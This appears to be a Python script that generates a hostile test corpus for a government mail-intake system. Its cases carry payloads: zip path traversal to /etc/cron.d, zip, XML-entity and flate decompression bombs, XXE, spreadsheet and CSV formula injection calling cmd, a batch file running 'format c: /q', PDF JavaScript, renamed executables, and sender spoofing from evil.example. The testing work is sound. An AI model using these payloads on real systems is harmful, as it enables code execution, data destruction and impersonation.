file_case("file-docx-rels-loop", "main part relationship points at itself / outside the zip",
          "Báo cáo.docx",
          lambda: docx_package(report_document_xml(COMMUNES[3]),
                               rels=root_rels("../../../../etc/passwd")),
          ACCEPTED + WITH_PROBLEMS, ())
file_case("file-docx-empty-zip", "an empty zip named .docx", "Báo cáo.docx",
          lambda: b"PK\x05\x06" + bytes(18), WITH_PROBLEMS, (CO,))
file_case("file-docx-encrypted-ole", "password-protected .docx (OLE EncryptedPackage)",
          "Báo cáo.docx", lambda: cfb(ENCRYPTED_STREAMS), WITH_PROBLEMS, (EN,))
file_case("file-xlsx-encrypted-ole", "password-protected .xlsx (OLE, 4 KiB sectors)",
          "Biểu 01.xlsx", lambda: cfb(ENCRYPTED_STREAMS, 12), WITH_PROBLEMS, (EN, MISSING),
          XLSX_TYPE, office=True)
file_case("file-xlsx-encrypted-real", "a real password-protected workbook (Excel)",
          "Biểu 01.xlsx", lambda: (REPO / "tests/data/files/encrypted.xlsx").read_bytes(),
          WITH_PROBLEMS, (EN, MISSING), XLSX_TYPE, office=True)
file_case("file-xls-encrypted", "a password-protected .xls", "Biểu 01.xls",
          lambda: (REPO / "tests/data/others/encrypted.xls").read_bytes(), WITH_PROBLEMS, (EN,),
          "application/vnd.ms-excel")
file_case("file-pdf-password", "a PDF with a user password", "Báo cáo.pdf",
          lambda: encrypted_pdf("secret"), WITH_PROBLEMS, (EN,), PDF)
file_case("file-pdf-owner-password", "a PDF with only an owner password", "Báo cáo.pdf",
          lambda: encrypted_pdf(""), ACCEPTED, (), PDF)
file_case("file-docm-macro", "a .docm with a VBA project", "Báo cáo.docm",
          lambda: docx_package(report_document_xml(COMMUNES[4]),
                               [("word/vbaProject.bin", cfb([("VBA", 1)]))], macro=True),
          ACCEPTED, (), DOCM)
file_case("file-docm-renamed-docx", "macro document renamed .docx", "Báo cáo.docx",
          lambda: docx_package(report_document_xml(COMMUNES[5]),
                               [("word/vbaProject.bin", cfb([("VBA", 1)]))], macro=True),
          ACCEPTED, ())
file_case("file-xlsm-macro", "an .xlsm with a VBA project", "Biểu 01.xlsm",
          lambda: xlsx_package(sheet_xml(""), extra=[("xl/vbaProject.bin", cfb([("VBA", 1)]))],
                               macro=True), WITH_PROBLEMS, (MISSING,), XLSM, office=True)
file_case("file-xlsm-form-with-macro", "the real form saved with a macro added",
          "Biểu 01.xlsm",
          lambda: add_member(form(OFFICES[1]), "xl/vbaProject.bin", cfb([("VBA", 1)])),
          ACCEPTED + WITH_PROBLEMS, (), XLSM, office=True)


file_case("file-docx-truncated-700", "a .docx cut after 700 bytes", "Báo cáo.docx",
          lambda: report(COMMUNES[6])[:700], WITH_PROBLEMS, (CO,))
file_case("file-docx-truncated-half", "a .docx cut in half", "Báo cáo.docx",
          lambda: report(COMMUNES[6])[: len(report(COMMUNES[6])) // 2], WITH_PROBLEMS, (CO,))
file_case("file-docx-truncated-tail", "a .docx missing its last 10 bytes", "Báo cáo.docx",
          lambda: report(COMMUNES[6])[:-10], WITH_PROBLEMS, (CO,))
file_case("file-xlsx-truncated", "the data form cut in half", "Biểu 01.xlsx",
          lambda: form(OFFICES[2])[: len(form(OFFICES[2])) // 2], WITH_PROBLEMS, (CO, MISSING),
          XLSX_TYPE, office=True)
file_case("file-pdf-truncated", "a PDF cut after 120 bytes", "Báo cáo.pdf",
          lambda: text_pdf(REPORT_PDF_LINES)[:120], WITH_PROBLEMS, (CO,), PDF)
file_case("file-pdf-header-only", "%PDF-1.7 and garbage", "Báo cáo.pdf",
          lambda: b"%PDF-1.7\n" + b"\x00\xff" * 500, WITH_PROBLEMS, (CO,), PDF)
file_case("file-zip-truncated", "a .zip cut in half", "Hồ sơ.zip",
          lambda: zip_bytes([("bao-cao.docx", report(COMMUNES[7]))])[:300], WITH_PROBLEMS,
          (CO,), "application/zip")
file_case("file-exe-as-docx", "a Windows program renamed .docx", "Báo cáo.docx",
          pe_executable, WITH_PROBLEMS, ("kind-mismatch",))
file_case("file-exe-as-xlsx", "a Windows program renamed .xlsx", "Biểu 01.xlsx",
          pe_executable, WITH_PROBLEMS, ("kind-mismatch", MISSING), XLSX_TYPE, office=True)
file_case("file-exe-as-pdf", "a Windows program renamed .pdf", "Báo cáo.pdf",
          pe_executable, WITH_PROBLEMS, ("kind-mismatch",), PDF)
file_case("file-exe-as-jpg", "a Windows program renamed .jpg", "Ảnh chụp.jpg",
          pe_executable, WITH_PROBLEMS, ("kind-mismatch",), "image/jpeg")
file_case("file-elf-as-docx", "a Linux program renamed .docx", "Báo cáo.docx", lambda: ELF,
          WITH_PROBLEMS, ("kind-mismatch",))
file_case("file-exe-named-exe", "a program under its own name", "setup.exe", pe_executable,
          WITH_PROBLEMS, ("unsupported",), OCTET)
file_case("file-script-js", "a JavaScript file", "bao-cao.js",
          lambda: b"WScript.Shell.Run('calc')", WITH_PROBLEMS, ("unsupported",), OCTET)
file_case("file-script-vbs-as-txt", "a VBScript named .txt", "ghi-chu.txt",
          lambda: b'CreateObject("WScript.Shell").Run "calc"', ACCEPTED, (), "text/plain")
file_case("file-bat", "a batch file", "chay.bat", lambda: b"@echo off\r\nformat c: /q\r\n",
          WITH_PROBLEMS, ("unsupported",), OCTET)
file_case("file-polyglot-pdf-zip", "a PDF that is also a zip, named .docx", "Báo cáo.docx",
          lambda: text_pdf(REPORT_PDF_LINES) + report(COMMUNES[8]), ACCEPTED + WITH_PROBLEMS, ())
file_case("file-polyglot-zip-pdf", "a zip whose first KB also says %PDF-, named .pdf",
          "Báo cáo.pdf",
          lambda: zip_bytes([("%PDF-1.4 fake", b"x"), ("word/document.xml",
                                                         report_document_xml(COMMUNES[8]))]),
          ACCEPTED + WITH_PROBLEMS, (), PDF)
file_case("file-polyglot-html-docx", "HTML with a zip appended, named .docx", "Báo cáo.docx",
          lambda: b"<html><script>alert(1)</script></html>" + report(COMMUNES[8]),
          WITH_PROBLEMS, (CO,))
file_case("file-zip-traversal-members", "a .zip whose members are ../../ and /etc paths",
          "Hồ sơ.zip",
          lambda: zip_bytes([(f"../../{E}-12.docx", b"x"), ("/etc/cron.d/evil", b"y"),
                             ("C:\\Windows\\evil.dll", b"z")]), ACCEPTED + WITH_PROBLEMS, (),
          "application/zip")
file_case("file-docx-traversal-members", "a .docx also holding ../../ members", "Báo cáo.docx",
          lambda: add_member(report(COMMUNES[9]), f"../../{E}-13.bin", b"x"), ACCEPTED, ())
file_case("file-zip-bomb-nested", "zip in zip in zip (42.zip style), 40 MiB inside",
          "Hồ sơ.zip", lambda: zip_bytes([("a.zip", zip_bytes([("b.zip", docx_bomb(40))]))]),
          ACCEPTED + WITH_PROBLEMS, (), "application/zip")
file_case("file-zip-many-members", "a .zip of 5,000 empty members", "Hồ sơ.zip",
          lambda: raw_zip([(f"{i}.txt", b"\x03\x00", 0, 0, 0) for i in range(5000)]),
          WITH_PROBLEMS, (ZB,), "application/zip", large=True)
file_case("file-xlsx-xfd1048576", "one cell at XFD1048576", "Biểu 01.xlsx",
          lambda: xlsx_package(sheet_xml('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
                                         "A1:XFD1048576")),
          WITH_PROBLEMS, (MISSING,), XLSX_TYPE, office=True)
file_case("file-xlsx-wrong-dimension", "dimension A1:A1 on a 300-row sheet", "Biểu 01.xlsx",
          lambda: xlsx_package(sheet_xml("".join(
              f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>' for r in range(1, 301)), "A1")),
          WITH_PROBLEMS, (MISSING,), XLSX_TYPE, office=True)
file_case("file-xlsx-billion-laughs", "entity bomb in sharedStrings.xml", "Biểu 01.xlsx",
          lambda: xlsx_package(sheet_xml('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'),
                               shared=(BILLION_LAUGHS + f'<sst xmlns="{S_NS}"><si><t>&lol9;</t>'
                                       "</si></sst>").encode()),
          WITH_PROBLEMS, (XE, MISSING), XLSX_TYPE, office=True)
file_case("file-xlsx-xxe-workbook", "external entity in workbook.xml", "Biểu 01.xlsx",
          lambda: xlsx_package(sheet_xml(""), workbook=(XXE + f'<workbook xmlns="{S_NS}">'
                                                        "&xxe;</workbook>").encode()),
          WITH_PROBLEMS, (XE, MISSING), XLSX_TYPE, office=True)
file_case("file-xlsx-shared-index", "shared-string index 10^9 and -1", "Biểu 01.xlsx",
          lambda: xlsx_package(sheet_xml('<row r="1"><c r="A1" t="s"><v>1000000000</v></c>'
                                         '<c r="B1" t="s"><v>-1</v></c></row>'),
                               shared=f'<sst xmlns="{S_NS}"><si><t>x</t></si></sst>'.encode()),
          WITH_PROBLEMS, (MISSING,), XLSX_TYPE, office=True)
file_case("file-xlsx-sheet-missing", "workbook names a sheet that is not in the zip",
          "Biểu 01.xlsx",
          lambda: zip_bytes([(n, d) for n, d in zipfile_members(simple_xlsx())
                             if n != "xl/worksheets/sheet1.xml"]),
          WITH_PROBLEMS, (MISSING,), XLSX_TYPE, office=True)
file_case("file-xlsx-formula-injection", "cells with =cmd|' /C calc'!A0 and =HYPERLINK",
          "Biểu 01.xlsx",
          lambda: xlsx_package(sheet_xml(
              '<row r="1"><c r="A1" t="inlineStr"><is><t>=cmd|\' /C calc\'!A0</t></is></c>'
              '<c r="B1"><f>HYPERLINK("http://attacker.invalid","x")</f><v>0</v></c></row>')),
          WITH_PROBLEMS, (MISSING,), XLSX_TYPE, office=True)
file_case("file-xlsx-bad-cell-refs", "cell references like ZZZZZZ9999999999 and -1",
          "Biểu 01.xlsx",
          lambda: xlsx_package(sheet_xml('<row r="-1"><c r="ZZZZZZ9999999999"><v>1</v></c>'
                                         '<c r="A0"><v>x</v></c><c r=""><v>2</v></c></row>'
                                         '<row r="99999999999999999999"><c><v>3</v></c></row>')),
          WITH_PROBLEMS, (MISSING,), XLSX_TYPE, office=True)
file_case("file-xlsx-form-bad-values", "the real form with text, NaN and 1e308 values",
          "Biểu 01.xlsx",
          lambda: normalise_zip(sample_form(OFFICES[3].name, 3, values={
              "DC01": "NaN", "DC02": 1e308, "DC03": "-0", "DC04": "∞"}).data),
          WITH_PROBLEMS, (), XLSX_TYPE, office=True)


file_case("file-xls-truncated", "an .xls that is an OLE header and nothing else", "Biểu.xls",
          lambda: cfb([("Workbook", 2)])[:600], WITH_PROBLEMS, (CO,), "application/vnd.ms-excel")
file_case("file-xls-is-html", "an HTML table saved as .xls (common export)", "Biểu.xls",
          lambda: "<html><table><tr><td>Hộ nghèo</td><td>12</td></tr></table></html>".encode(),
          ACCEPTED + WITH_PROBLEMS, (), "application/vnd.ms-excel")
file_case("file-doc-truncated-ole", "a .doc that is a broken OLE file", "Công văn.doc",
          lambda: cfb([("WordDocument", 2)]), ACCEPTED + WITH_PROBLEMS, (), "application/msword")
file_case("file-pdf-javascript", "a PDF with an OpenAction JavaScript", "Báo cáo.pdf",
          lambda: text_pdf(REPORT_PDF_LINES,
                           b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "),
          ACCEPTED, (), PDF)
file_case("file-pdf-self-reference", "page tree whose kid is its own parent", "Báo cáo.pdf",
          lambda: pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                       b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
                       b"<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1 >>"]),
          ACCEPTED + WITH_PROBLEMS, (), PDF)
file_case("file-pdf-deep-arrays", "an object of 20,000 nested arrays", "Báo cáo.pdf",
          lambda: pdf([b"<< /Type /Catalog /Pages 2 0 R /X " + b"[" * 20_000 + b"]" * 20_000
                       + b" >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]),
          ACCEPTED + WITH_PROBLEMS, (), PDF)
file_case("file-pdf-billion-pages", "page count claims 10^12 pages", "Báo cáo.pdf",
          lambda: pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                       b"<< /Type /Pages /Kids [3 0 R] /Count 1000000000000 >>",
                       b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"]),
          ACCEPTED + WITH_PROBLEMS, (), PDF)
file_case("file-pdf-flate-bomb", "a content stream inflating to 40 MiB", "Báo cáo.pdf",
          lambda: flate_bomb_pdf(40), ACCEPTED + WITH_PROBLEMS, (), PDF)
file_case("file-pdf-flate-bomb-1gib", "a content stream inflating to 1 GiB", "Báo cáo.pdf",
          lambda: flate_bomb_pdf(1024), ACCEPTED + WITH_PROBLEMS, (), PDF, large=True)
file_case("file-pdf-broken-xref", "xref offsets all wrong, startxref past the end",
          "Báo cáo.pdf",
          lambda: text_pdf(REPORT_PDF_LINES).replace(b"startxref\n", b"startxref\n99999999"),
          ACCEPTED + WITH_PROBLEMS, (), PDF)
file_case("file-png-dimension-bomb", "a PNG declaring 100,000 x 100,000 pixels", "Ảnh.png",
          lambda: png(100_000, 100_000), ACCEPTED, (), "image/png")
file_case("file-text-nul-after-4k", "a .txt whose NUL bytes start after the first 4 KB",
          "ghi-chu.txt", lambda: b"a" * 5000 + b"\x00" * 3000 + "Báo cáo".encode(),
          ACCEPTED + WITH_PROBLEMS, (), "text/plain")
file_case("file-csv-injection", "a CSV with formula injection and 10,000 columns", "so-lieu.csv",
          lambda: b"=cmd|' /C calc'!A0," + b"," * 10_000 + b"\r\n" + b"=1+1\r\n" * 5, ACCEPTED, (),
          "text/csv")
case("file-rfc822-attached-exe", FILES, "a forwarded .eml carrying a program renamed .docx",
     WITH_PROBLEMS, ("kind-mismatch",),
     lambda n: mail(n, [attachment("Fwd.eml", mail("inner-fwd", [attachment(
         "Báo cáo.docx", pe_executable())], unit=COMMUNES[10]), "message/rfc822", cte="8bit")]))


# --- sender and time --------------------------------------------------------------------------

SENDER = "sender"


def sender_case(name: str, what: str, outcomes: tuple[str, ...], problems: Sequence[str],
                **kwargs: object) -> None:
    case(name, SENDER, what, outcomes, problems, lambda n: mail(n, **kwargs))


sender_case("date-far-past", "Date: 1 Jan 1970", WITH_PROBLEMS, ("date-mismatch",),
            date="Thu, 01 Jan 1970 00:00:00 +0000")
sender_case("date-far-future", "Date in 2099", WITH_PROBLEMS, ("date-mismatch",),
            date="Fri, 01 Jan 2099 00:00:00 +0700")
sender_case("date-year-9999", "Date at the end of year 9999", WITH_PROBLEMS, ("date-mismatch",),
            date="Fri, 31 Dec 9999 23:59:59 -1200")
sender_case("date-year-1", "Date in year 1 with +14:00", WITH_PROBLEMS + ACCEPTED, (),
            date="Mon, 01 Jan 0001 00:00:00 +1400")
sender_case("date-missing", "no Date header", ACCEPTED, (), date=None)
sender_case("date-unparseable", "Date: hôm qua (yesterday)", ACCEPTED, (), date="hôm qua")
sender_case("date-vietnamese", "Date written in Vietnamese words", ACCEPTED, (),
            date="Thứ Ba, 20 Tháng 5 2025 10:00")
sender_case("date-bad-offset", "Date with a +9999 zone offset", ACCEPTED, (),
            date="Tue, 20 May 2025 10:00:00 +9999")
sender_case("date-leap-second", "Date at 23:59:60", ACCEPTED + WITH_PROBLEMS, (),
            date="Tue, 20 May 2025 23:59:60 +0700")
sender_case("date-feb-30", "Date on 30 February", ACCEPTED, (),
            date="Sun, 30 Feb 2025 10:00:00 +0700")
sender_case("date-two-digit-year", "two-digit year '25'", ACCEPTED, (),
            date="Tue, 20 May 25 10:00:00 +0700")
sender_case("date-huge-number", "a 400-digit year", ACCEPTED, (),
            date="Tue, 20 May " + "9" * 400 + " 10:00:00 +0700")
sender_case("date-two-headers", "two Date headers, the second a year later", ACCEPTED, (),
            extra=["Date: Wed, 20 May 2026 10:00:00 +0700"])
sender_case("date-naive-minus-zero", "Date with -0000 (zone unknown)", ACCEPTED, (),
            date="Tue, 20 May 2025 03:00:00 -0000")
case("from-display-spoof-with-document", SENDER,
     "'UBND xã ... <attacker@...>' with the unit's letterhead: identified by document",
     WITH_PROBLEMS, ("unregistered-address",),
     lambda n: mail(n, unit=COMMUNES[1], extra=[EVIL_PASS],
                    from_line=f"{ew(COMMUNES[1].name)} <attacker@evil.example>"))
case("from-display-spoof-no-document", SENDER,
     "'UBND xã ... <attacker@...>' with a PDF scan only", QUARANTINED, ("quarantined",),
     lambda n: mail(n, [attachment("scan.pdf", text_pdf(["x"]), PDF)], unit=COMMUNES[1],
                    from_line=f"{ew(COMMUNES[1].name)} <attacker@evil.example>"))
case("from-display-is-address", SENDER,
     "display name is the unit's address, real address the attacker's", QUARANTINED + WITH_PROBLEMS,
     (), lambda n: mail(n, [attachment("scan.pdf", text_pdf(["x"]), PDF)],
                        from_line=f'"{COMMUNES[2].email}" <attacker@evil.example>'))
case("from-two-addresses-unit-first", SENDER, "From: unit, attacker (two addresses)",
     ACCEPTED + QUARANTINED, (),
     lambda n: mail(n, from_line=f"{unit_for(n).email}, attacker@evil.example"))
case("from-two-addresses-attacker-first", SENDER, "From: attacker, unit",
     QUARANTINED + WITH_PROBLEMS, (),
     lambda n: mail(n, from_line=f"attacker@evil.example, {unit_for(n).email}"))
case("from-two-from-headers", SENDER, "two From headers: the unit's, then the attacker's",
     ACCEPTED + QUARANTINED, (),
     lambda n: mail(n, extra=["From: attacker@evil.example"]))
def passed_for(domain: str) -> str:
    """What our server writes for mail really from `domain`, DKIM-signed and DMARC-aligned."""
    return (f"Authentication-Results: {AUTHSERV}; spf=pass smtp.mailfrom={domain}; "
            f"dkim=pass header.d={domain}; dmarc=pass header.from={domain}")


EVIL_PASS = passed_for("evil.example")
case("from-comment-trick", SENDER, "unit address where a name belongs, attacker's in brackets; "
     "the server authenticated evil.example", QUARANTINED + WITH_PROBLEMS, (),
     lambda n: mail(n, from_line=f"{unit_for(n).email} ({unit_for(n).email}) "
                                 "<attacker@evil.example>", extra=[EVIL_PASS]))
case("from-quoted-local-part", SENDER, '"unit@address"@evil.example; the server authenticated '
     "evil.example", QUARANTINED + WITH_PROBLEMS, (),
     lambda n: mail(n, from_line=f'"{unit_for(n).email}"@evil.example', extra=[EVIL_PASS]))
case("from-forged-dmarc-fail", SENDER, "the unit's address, our server says DMARC fails",
     QUARANTINED, ("quarantined",),
     lambda n: mail(n, extra=[f"Authentication-Results: {AUTHSERV}; spf=fail smtp.mailfrom="
                              f"{unit_for(n).email}; dmarc=fail header.from="
                              f"{unit_for(n).email.split('@')[1]}"]))
case("from-forged-foreign-authserv", SENDER, "a 'dmarc=pass' written by someone else's server",
     ACCEPTED, (),
     lambda n: mail(n, extra=["Authentication-Results: mx.attacker.example; dmarc=pass"]))
case("from-encoded-address", SENDER, "the address itself inside an encoded-word",
     QUARANTINED + WITH_PROBLEMS + ACCEPTED, (),
     lambda n: mail(n, from_line=ew(unit_for(n).email)))
case("from-group-syntax", SENDER, "From: Undisclosed recipients:;", QUARANTINED + WITH_PROBLEMS,
     (), lambda n: mail(n, from_line="Undisclosed recipients:;"))
case("from-lookalike-domain", SENDER, "unit address with a Cyrillic 'е' in the domain",
     QUARANTINED + WITH_PROBLEMS, (),
     lambda n: mail(n, from_line=unit_for(n).email.replace("e", "\u0435", 1).encode()))
case("from-upper-case", SENDER, "the unit's address in capitals", ACCEPTED, (),
     lambda n: mail(n, from_line=f"<{unit_for(n).email.upper()}>"))
case("from-reply-to-attacker", SENDER, "Reply-To points at an attacker", ACCEPTED, (),
     lambda n: mail(n, extra=["Reply-To: attacker@evil.example"]))
case("from-sender-header", SENDER, "Sender: attacker, From: unit", ACCEPTED, (),
     lambda n: mail(n, extra=["Sender: attacker@evil.example"]))
case("from-nul-in-address", SENDER, "a NUL byte inside the From address",
     QUARANTINED + WITH_PROBLEMS, (),
     lambda n: mail(n, from_line=b"<ubnd\x00@" + unit_for(n).email.split("@")[1].encode() + b">"))
case("from-2000-addresses", SENDER, "From with 2,000 addresses", ACCEPTED + QUARANTINED, (),
     lambda n: mail(n, from_line=", ".join([unit_for(n).email]
                                            + [f"x{i}@evil.example" for i in range(2000)])))
case("from-unicode-local-part", SENDER, "SMTPUTF8 address with Vietnamese local part",
     QUARANTINED + WITH_PROBLEMS, (),
     lambda n: mail(n, from_line="Văn thư <vănthư@hungdien.example.vn>".encode()))

# --- automatic mail ---------------------------------------------------------------------------

AUTO = "automatic"


def auto_case(name: str, what: str, outcomes: tuple[str, ...] = IGNORED, **kwargs: object) -> None:
    case(name, AUTO, what, outcomes, (), lambda n: mail(n, **kwargs))


auto_case("auto-reply-vietnamese", "Subject 'Trả lời tự động: ...'",
          subject=ew("Trả lời tự động: Báo cáo 6 tháng"))
auto_case("auto-reply-vietnamese-nfd", "the same subject in NFD",
          subject=ew(unicodedata.normalize("NFD", "Trả lời tự động: Báo cáo")))
auto_case("auto-reply-vietnamese-raw", "the same subject as raw UTF-8",
          subject="Tự động trả lời: Đang đi công tác".encode())
auto_case("auto-reply-auto-submitted", "Auto-Submitted: auto-replied",
          extra=["Auto-Submitted: auto-replied"])
auto_case("auto-reply-auto-generated", "Auto-Submitted: auto-generated; with params",
          extra=["Auto-Submitted: Auto-Generated; owner-email=x@y"])
auto_case("auto-reply-x-autoreply", "X-Autoreply: yes", extra=["X-Autoreply: yes"])
auto_case("auto-reply-x-autorespond", "X-Autorespond", extra=["X-Autorespond: vacation"])
auto_case("auto-reply-precedence", "Precedence: auto_reply", extra=["Precedence: auto_reply"])
auto_case("auto-reply-outlook", "Outlook 'Automatic reply:' subject",
          subject="Automatic reply: Báo cáo".encode())
auto_case("auto-reply-out-of-office", "'Out of Office' subject", subject="Out of Office: x")
auto_case("auto-reply-vacation-vi", "'Vắng mặt:' subject", subject=ew("Vắng mặt: đi học"))
auto_case("auto-read-receipt", "a read receipt (multipart/report; disposition-notification)",
          body=multipart([text_part("Đã đọc"), part(
              ["Content-Type: message/disposition-notification"],
              b"Final-Recipient: rfc822; ubnd@x.vn\r\nDisposition: manual-action/MDN-sent-"
              b"manually; displayed\r\n")], "mdn"),
          ctype='multipart/report; report-type=disposition-notification; boundary="mdn"')
auto_case("auto-submitted-no", "Auto-Submitted: no (a person sent it)", ACCEPTED,
          extra=["Auto-Submitted: no"])
auto_case("auto-response-suppress-only", "X-Auto-Response-Suppress alone (Outlook, scanners)",
          ACCEPTED, extra=["X-Auto-Response-Suppress: All"])


def dsn(name: str, *, inner: bytes | None = b"", status_part: bytes | None = None,
        charset: str = "us-ascii", from_line: str = "Mail Delivery System <MAILER-DAEMON@mx>",
        subject: str = "Undelivered Mail Returned to Sender", text: bytes | None = None) -> bytes:
    status = status_part if status_part is not None else part(
        ["Content-Type: message/delivery-status"],
        b"Reporting-MTA: dns; mx.example\r\n\r\nFinal-Recipient: rfc822; "
        b"ubnd@hungdien.example.vn\r\nAction: failed\r\nStatus: 5.1.1\r\n"
        b"Diagnostic-Code: smtp; 550 5.1.1 User unknown\r\n")
    """A delivery report; `inner` is the returned message (b"": a stock one; None: none, so
    the report's text is searched for our Message-ID)."""
    original = inner if inner != b"" else (
        b"From: baocao@noivu.example.vn\r\nMessage-ID: <baocao.ack-1@noivu.example.vn>\r\n"
        b"Subject: x\r\n\r\nbody\r\n")
    parts = [
        part([f"Content-Type: text/plain; charset={charset}", "Content-Transfer-Encoding: 8bit"],
             text if text is not None else b"This is the mail system. Delivery failed.\r\n"),
        status,
    ]
    if original is not None:
        parts.append(part(["Content-Type: message/rfc822"], original))
    return mail(name, body=multipart(parts, "dsn"), from_line=from_line, subject=subject,
                ctype='multipart/report; report-type=delivery-status; boundary="dsn"')


def bounce_case(name: str, what: str, build: Callable[[str], bytes]) -> None:
    case(name, AUTO, what, IGNORED, (), build)


bounce_case("bounce-dsn", "a standard DSN (multipart/report)", lambda n: dsn(n))
bounce_case("bounce-dsn-no-status", "multipart/report without its delivery-status part",
            lambda n: dsn(n, status_part=part(["Content-Type: text/plain"], b"nothing")))
bounce_case("bounce-dsn-base64-status", "delivery-status sent base64 with garbage",
            lambda n: dsn(n, status_part=part(["Content-Type: message/delivery-status",
                                               "Content-Transfer-Encoding: base64"],
                                              b"QWN0aW9uOiBmYWlsZWQ!!!\r\n")))
bounce_case("bounce-dsn-charset-idna", "bounce text part in charset idna",
            lambda n: dsn(n, charset="idna", text=b"Delivery failed \xff\xfe to x\r\n",
                          inner=None))
bounce_case("bounce-dsn-charset-undefined", "bounce text part in charset 'undefined'",
            lambda n: dsn(n, charset="undefined", inner=None))
bounce_case("bounce-dsn-charset-punycode", "bounce text part in charset punycode, 8-bit",
            lambda n: dsn(n, charset="punycode", text=b"L\xe1\xbb\x97i \xff\r\n",
                          inner=None))
bounce_case("bounce-dsn-deep-nesting", "a DSN whose returned message nests 1,000 levels",
            lambda n: dsn(n, inner=b"From: a@b.vn\r\n" + nested(1000, text_part("x"))))
bounce_case("bounce-dsn-rfc822-1000", "a DSN whose returned message is 1,000 forwards deep",
            lambda n: dsn(n, inner=forwarded(1000, b"From: a@b.vn\r\n\r\nx")))
bounce_case("bounce-dsn-1000-recipients", "a DSN listing 1,000 failed recipients",
            lambda n: dsn(n, status_part=part(["Content-Type: message/delivery-status"],
                                              b"Reporting-MTA: dns; mx\r\n\r\n" + b"".join(
                b"Final-Recipient: rfc822; u%d@x.vn\r\nAction: failed\r\nStatus: 5.1.1\r\n\r\n"
                % i for i in range(1000)))))
bounce_case("bounce-return-path-null", "Return-Path: <> with an ordinary body",
            lambda n: mail(n, extra=["Return-Path: <>"]))
bounce_case("bounce-mailer-daemon", "From MAILER-DAEMON, plain text quoting our Message-ID",
            lambda n: mail(n, body=b"The following addresses failed:\r\n  ubnd@x.vn\r\n"
                           b"Message-ID: <baocao.ack-2@noivu.example.vn>\r\n",
                           ctype="text/plain", from_line="MAILER-DAEMON@mx.example"))
bounce_case("bounce-postmaster", "From postmaster@", lambda n: mail(
    n, from_line="postmaster@hungdien.example.vn"))
bounce_case("bounce-x-failed-recipients", "X-Failed-Recipients header",
            lambda n: mail(n, extra=["X-Failed-Recipients: a@b.vn"]))
bounce_case("bounce-undeliverable", "Outlook NDR subject 'Undeliverable:'",
            lambda n: mail(n, subject="Undeliverable: Báo cáo".encode()))
bounce_case("bounce-vietnamese", "subject 'Không gửi được thư'",
            lambda n: mail(n, subject=ew("Không gửi được thư")))
case("list-precedence-bulk", AUTO, "Precedence: bulk", IGNORED, (),
     lambda n: mail(n, extra=["Precedence: bulk"]))
case("list-list-id", AUTO, "List-Id header", IGNORED, (),
     lambda n: mail(n, extra=["List-Id: <baocao.lists.example>"]))
case("list-unsubscribe", AUTO, "List-Unsubscribe header", IGNORED, (),
     lambda n: mail(n, extra=["List-Unsubscribe: <mailto:u@lists.example>"]))
case("loop-header", AUTO, "our own X-Baocao-Loop header", IGNORED, (),
     lambda n: mail(n, extra=["X-Baocao-Loop: noivu.example.vn"]))
case("loop-header-empty", AUTO, "X-Baocao-Loop with an empty value, lower-case name", IGNORED,
     (), lambda n: mail(n, extra=["x-baocao-loop:"]))
case("loop-own-message-id", AUTO, "our own Message-ID shape coming back", IGNORED, (),
     lambda n: mail(n, msgid="<baocao.ack-3@noivu.example.vn>"))
case("loop-own-reply-quoting", AUTO, "our acknowledgement bounced back by a unit's forwarder",
     IGNORED, (),
     lambda n: mail(n, from_line="baocao@noivu.example.vn", extra=[
         "X-Baocao-Loop: noivu.example.vn", "In-Reply-To: <baocao.ack-4@noivu.example.vn>"]))
case("loop-many-received", AUTO, "200 Received headers of a relay loop, otherwise ordinary",
     ACCEPTED, (),
     lambda n: mail(n, extra=[f"Received: from a by b; {DATE}"] * 200))

# --- large inputs: built on demand -----------------------------------------------------------

LARGE = "large"


def sixty_mb(name: str) -> bytes:
    """A 60 MB message (limit 50 MB): archived, recorded, files kept unread."""
    unit = unit_for(name)
    blob = random.Random(60).randbytes(44 * 1024 * 1024)  # incompressible, like photos
    return mail(name, [*report_files(unit), attachment("Ảnh chụp hồ sơ.jpg", b"", "image/jpeg",
                                                       payload=b64(b"\xff\xd8\xff\xe0" + blob))])


def thousand_attachments(name: str) -> bytes:
    unit = unit_for(name)
    files = [attachment(f"Tệp {i}.txt", f"tệp {i}".encode(), "text/plain")
             for i in range(999)]
    return mail(name, [*report_files(unit), *files])


case("large-message-60mb", LARGE, "a 60 MB message (limit 50 MB)", WITH_PROBLEMS,
     ("message-too-large",), sixty_mb, large=True)
case("large-1000-attachments", LARGE, "1,000 attachments (500 are read)", WITH_PROBLEMS,
     ("mime-defect",), thousand_attachments, large=True)


# --- writing -----------------------------------------------------------------------------------


def toml_string(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)  # a JSON string is a valid TOML basic string


def manifest(cases: Sequence[Case] = CASES) -> str:
    lines = [
        "# Hostile corpus: generated by generate.py; do not edit by hand.",
        "# outcomes: allowed intake outcomes (\"duplicate\": deduplicated by Message-ID);",
        "# problems: codes that must be recorded; large: built on demand, not committed.",
        f"zlib = {toml_string(zlib.ZLIB_RUNTIME_VERSION)}",
        "",
    ]
    for c in cases:
        lines += [
            "[[input]]",
            f"name = {toml_string(c.filename)}",
            f"category = {toml_string(c.category)}",
            f"what = {toml_string(c.what)}",
            f"outcomes = [{', '.join(toml_string(o) for o in c.outcomes)}]",
            f"problems = [{', '.join(toml_string(p) for p in c.problems)}]",
        ]
        if c.large:
            lines.append("large = true")
        lines.append("")
    return "\n".join(lines)


def build_small() -> dict[str, bytes]:
    """Every committed file's name and bytes (the .eml files and MANIFEST.toml)."""
    out = {c.filename: c.build(c.name) for c in CASES if not c.large}
    out["MANIFEST.toml"] = manifest().encode()
    return out


def build_large(directory: Path, names: Iterable[str] | None = None) -> dict[str, Path]:
    """Write the large inputs into `directory` (kept if already there); name → path."""
    directory.mkdir(parents=True, exist_ok=True)
    wanted = set(names) if names is not None else None
    paths = {}
    for c in CASES:
        if not c.large or (wanted is not None and c.filename not in wanted):
            continue
        path = directory / c.filename
        if not path.is_file():
            tmp = path.with_suffix(".tmp")
            tmp.write_bytes(c.build(c.name))
            tmp.replace(path)
        paths[c.filename] = path
    return paths


